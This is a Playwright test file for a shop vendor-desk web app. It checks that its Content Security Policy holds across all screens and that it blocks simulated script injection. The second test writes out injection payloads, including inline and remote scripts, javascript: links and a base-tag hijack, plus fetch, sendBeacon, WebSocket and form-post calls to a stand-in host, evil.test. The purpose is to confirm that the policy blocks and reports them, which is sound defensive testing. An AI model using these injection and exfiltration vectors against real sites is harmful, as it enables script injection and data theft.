import { findChromium } from './chromium.ts'
import { expect, test } from './fixture.ts'
import { fillInCodes, lookThroughCamera, screens, withBarcodeReader, withoutPrinter } from './journey.ts'

// The fixture checks in every test that nothing violates the policy.

// A fake camera; and a full browser, because the headless shell has no notifications.
const fakeCamera = ['--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream']
test.use({
  serviceWorkers: 'allow',
  launchOptions: { executablePath: findChromium() ?? '', args: ['--no-sandbox', ...fakeCamera] },
})

test('uses every screen without a violation of the policy', async ({ shop, page, context }) => {
  test.setTimeout(180_000)
  await context.grantPermissions(['camera', 'notifications', 'clipboard-write', 'screen-wake-lock'], {
    origin: shop.desk.url,
  })
  await withBarcodeReader(context)
  await withoutPrinter(context)
  const first = shop.vendor.placeOrder()
  for (const [address, words] of screens) {
    await shop.open(address)
    await expect(page.getByText(words).first()).toBeVisible()
    await expect(page.getByRole('progressbar')).toHaveCount(0, { timeout: 30_000 })
  }

  await shop.open('/')
  await page.getByRole('button', { name: 'Turn on sound' }).click()
  await expect(page.getByRole('button', { name: /^Sound on/ })).toBeVisible()
  // Features that fail silently if they are forbidden: the ring's worker, its notification, the wake lock.
  await expect.poll(() => page.workers().length).toBe(1)
  const wakeLock = await page.evaluate(async () => (await navigator.wakeLock.request('screen')).type)
  expect(wakeLock).toBe('screen')
  await page.evaluate(() => Object.defineProperty(document, 'hidden', { configurable: true, get: () => true }))
  const workers = () =>
    page.evaluate(async () =>
      (await navigator.serviceWorker.getRegistrations()).map(({ active }) => active?.scriptURL.split('/').at(-1) ?? ''),
    )
  await expect.poll(async () => (await workers()).toSorted()).toEqual(['ring-worker.js', 'shell-worker.js'])
  await page.evaluate(() => Object.defineProperty(document, 'hidden', { configurable: true, get: () => false }))
  await page.getByRole('article', { name: first.printNumber }).getByRole('link').first().click()
  await page.getByRole('button', { name: 'Print ticket' }).click()
  await lookThroughCamera(page)
  await page.emulateMedia({ media: 'print' })
  await page.emulateMedia({ media: 'screen' })
  await page.getByRole('button', { name: 'Reject order' }).click()
  await page.getByRole('dialog', { name: 'Reject order' }).getByRole('radio').first().check()
  await page.getByRole('button', { name: 'Cancel' }).click()
  await page.getByRole('button', { name: 'Accept order' }).click()
  await page.getByRole('button', { name: 'Mark as ready' }).click()
  await page.getByRole('button', { name: 'Undo' }).click()

  const digital = shop.vendor.placeOrder('digital')
  const units = digital.lines.reduce((sum, { quantity }) => sum + quantity, 0)
  await page.getByRole('button', { name: 'Silence' }).click()
  await shop.open(`/orders/${digital.id}`)
  await page.getByRole('button', { name: 'Accept order' }).click()
  // At once, if the catalog already says that it is digital.
  const enter = page.getByRole('button', { name: 'Enter the codes' })
  await enter.or(page.getByRole('dialog')).first().waitFor()
  if (await enter.isVisible()) await enter.click()
  const dialog = await fillInCodes(page, units, 'SECRET', 'serial')
  await dialog.getByRole('button', { name: 'Accept order' }).click()
  await expect(dialog).toBeHidden()

  await shop.open('/connection')
  await page.getByRole('button', { name: 'Copy' }).first().click()
  await expect(page.getByText('Copied').first()).toBeVisible()
  await shop.open('/settings')
  await page.getByRole('radio', { name: 'Dark' }).check()
  await page.getByRole('radio', { name: 'العربية' }).click()
  await page.getByRole('radio', { name: 'English' }).click()
  // A language is saved once its messages are loaded.
  await expect(page.getByRole('link', { name: 'Orders', exact: true })).toBeVisible()
  await shop.open('/log')
  const saved = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Save as CSV' }).click()
  expect((await saved).suggestedFilename()).toMatch(/^vendor-desk-log-(?:\d{4}-\d\d-\d\d(?:-to-)?)+\.csv$/)
  // The only manager stays.
  await shop.hire({ name: 'Omar', pin: '2580', isManager: false })
  await shop.open('/staff')
  await page.getByRole('button', { name: 'Remove Omar' }).click()
  await page.getByRole('button', { name: 'Cancel' }).click()
})

test('blocks and reports what an injected script would try', async ({ shop, browser }) => {
  const context = await browser.newContext()
  const page = await context.newPage()
  await page.goto(shop.desk.url)
  const forbidden = await page.evaluateHandle(() => {
    const heard = new Set<string>()
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.add(effectiveDirective))
    return heard
  })
  await page.evaluate(async () => {
    const attempt = async (work: () => unknown) => {
      try {
        await work()
      } catch {
        // Its failure is checked below.
      }
    }
    const put = (name: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      if (text !== '') element.append(text)
      document.body.append(element)
      return element
    }
    const mark = 'globalThis.hacked = true'
    // A test's own script is exempt from the policy until its turn of the event loop ends.
    await new Promise((resolve) => setTimeout(resolve))
    await attempt(() => (document.body.innerHTML += '<p>'))
    await attempt(() => put('script', {}, mark))
    await attempt(() => put('script', { src: 'https://evil.test/a.js' }))
    await attempt(() => put('script', { src: `data:text/javascript,${mark}` }))
    await attempt(() => put('b', { onclick: mark }).click())
    await attempt(() => put('a', { href: `javascript:${mark}` }).click())
    await attempt(() => put('style', {}, 'body { color: red }'))
    await attempt(() => put('link', { rel: 'stylesheet', href: 'https://evil.test/a.css' }))
    await attempt(() => put('b', { style: 'color: red' }))
    await attempt(() => put('img', { src: 'http://evil.test/a.png' }))
    await attempt(() => put('img', { src: 'data:image/svg+xml,<svg/>' }))
    await attempt(() => put('iframe', { src: 'https://evil.test/' }))
    await attempt(() => put('object', { data: 'https://evil.test/' }))
    await attempt(() => put('base', { href: 'https://evil.test/' }))
    await attempt(() =>
      (put('form', { action: 'https://evil.test/', method: 'post' }) as HTMLFormElement).requestSubmit(),
    )
    await attempt(() => fetch('https://evil.test/'))
    await attempt(() => navigator.sendBeacon('https://evil.test/', 'x'))
    await attempt(() => new WebSocket('wss://evil.test/'))
    await attempt(() => new EventSource('https://evil.test/'))
    await attempt(() => new Worker('data:text/javascript,0'))
    // oxlint-disable-next-line no-implied-eval -- that it is forbidden is what is tried
    await attempt(() => new Function(mark)())
  })
  // Violations of forms and frames are reported by another process, on a busy machine seconds later.
  await expect
    .poll(() => forbidden.evaluate((heard) => [...heard].toSorted()), { timeout: 20_000 })
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ])
  const outcomes = await page.evaluate(() => ({
    hacked: 'hacked' in globalThis,
    address: location.href,
    base: document.baseURI,
  }))
  expect(outcomes).toEqual({ hacked: false, address: `${shop.desk.url}/`, base: `${shop.desk.url}/` })
  await context.close()
})
